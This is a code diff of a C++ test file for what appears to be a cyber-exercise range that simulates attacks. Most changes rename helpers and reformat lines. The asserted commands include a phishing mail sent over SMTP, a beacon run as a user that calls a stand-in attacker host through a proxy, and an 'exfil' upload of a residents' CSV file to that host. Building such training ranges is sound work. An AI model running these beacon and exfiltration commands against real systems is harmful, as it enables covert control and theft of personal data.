@@ -1,6 +1,7 @@
 #include "injector/actions/act.h"
 
 #include "scenario-dsl/attack/traces.h"
+#include "scenario-dsl/model/step_names.h"
 #include "scenario-dsl/source/digest.h"
 #include "tests/support/fake_range.h"
 #include "tests/support/first_light.h"
@@ -50,8 +51,9 @@ TEST_F(ActionsTest, AMailIsSentFromTheAttackersHostAndFoundInTheMailbox) {
     EXPECT_EQ(evidence["file"], "/home/suzuki/Maildir/new/1.gate");
     EXPECT_EQ(evidence["sha256"], dsl::sha256_hex("お見積書 an estimate\n"));
     EXPECT_TRUE(ran("attacker: /usr/bin/curl"));
-    EXPECT_TRUE(ran("smtp://203.0.113.25:25/supplier.example --mail-from taro@supplier.example --mail-rcpt "
-                    "suzuki@city.hinode.example"));
+    EXPECT_TRUE(
+        ran("smtp://203.0.113.25:25/supplier.example --mail-from taro@supplier.example --mail-rcpt "
+            "suzuki@city.hinode.example"));
     const std::string eml =
         range_.guest("attacker").read("/run/enshu/outgoing-phish.eml", dsl::Milliseconds(1));
     EXPECT_NE(eml.find("Date: Sat, 21 Nov 2026 12:00:00 +0900\r\n"), std::string::npos)
@@ -108,7 +110,7 @@ TEST_F(ActionsTest, ABeaconRunsAsTheUserThroughTheProxy) {
     perform(context("beacon"));
     EXPECT_TRUE(ran("pc-suzuki: /usr/bin/systemd-run --quiet --collect --uid=suzuki "
                     "--unit=" +
-                    beacon_unit("beacon") +
+                    dsl::unit_of("beacon") +
                     " /usr/lib/enshu/actor beacon --url "
                     "http://198.51.100.66/news/update --min-ms 4000 --max-ms 7000"));
     EXPECT_TRUE(ran("--proxy 203.0.113.25:3128"));
@@ -124,8 +126,8 @@ TEST_F(ActionsTest, AStepsIdStandsInNoWordThatAGuestIsGiven) {
     perform(context("beacon"));
     for (const std::string &line : range_.commands())
         EXPECT_EQ(line.find("enshu-beacon"), std::string::npos) << line;
-    EXPECT_EQ(beacon_unit("beacon").size(), std::string("enshu-").size() + 8);
-    EXPECT_NE(beacon_unit("beacon"), beacon_unit("beacon-2"));
+    EXPECT_EQ(dsl::unit_of("beacon").size(), std::string("enshu-").size() + 8);
+    EXPECT_NE(dsl::unit_of("beacon"), dsl::unit_of("beacon-2"));
 }
 
 TEST_F(ActionsTest, AnUploadGoesToAPathDerivedFromItsStep) {
@@ -134,11 +136,11 @@ TEST_F(ActionsTest, AnUploadGoesToAPathDerivedFromItsStep) {
     EXPECT_TRUE(ran("pc-suzuki: /usr/bin/setpriv --reuid=suzuki --regid=suzuki --init-groups -- "
                     "/usr/lib/enshu/actor upload --url "
                     "http://198.51.100.66" +
-                    upload_path("exfil") +
+                    dsl::upload_path("exfil") +
                     " --proxy 203.0.113.25:3128 --key - --file "
                     "/home/suzuki/Documents/residents.csv"));
-    EXPECT_EQ(upload_path("exfil").size(), std::string("/drop/").size() + 8);
-    EXPECT_NE(upload_path("exfil"), upload_path("exfil-2"));
+    EXPECT_EQ(dsl::upload_path("exfil").size(), std::string("/drop/").size() + 8);
+    EXPECT_NE(dsl::upload_path("exfil"), dsl::upload_path("exfil-2"));
 }
 
 TEST_F(ActionsTest, AnUploadWithoutANetworkFailsWithTheProgramsOwnWords) {
